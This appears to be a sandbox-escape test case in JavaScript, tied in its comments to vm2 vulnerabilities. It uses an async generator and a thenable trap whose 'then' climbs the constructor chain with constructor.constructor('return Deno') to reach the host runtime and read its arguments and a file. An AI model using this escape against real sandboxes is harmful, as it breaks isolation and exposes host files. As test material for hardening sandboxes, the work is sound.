// Tries: an async generator that is returned into with a thenable, whose `then` is called from the engine's own code.
// Origin: vm2 CVE-2026-45411 (yield* and return in async generators), CVE-2026-22709.

const found = [];
const trap = {
  then(...given) {
    for (const item of [...given, this]) {
      try {
        const platform = item.constructor.constructor("return Deno")();
        found.push(platform.args, platform.readTextFileSync(input.file));
      } catch (error) {
        found.push(`${error}`);
      }
    }
    given[0]?.(1);
  },
};
const generator = (async function* () { yield* { [Symbol.asyncIterator]: () => ({ next: () => trap, return: () => trap }) }; })();
await generator.next().catch(() => {});
await generator.return(trap).catch(() => {});
await (async () => trap)();
return found;
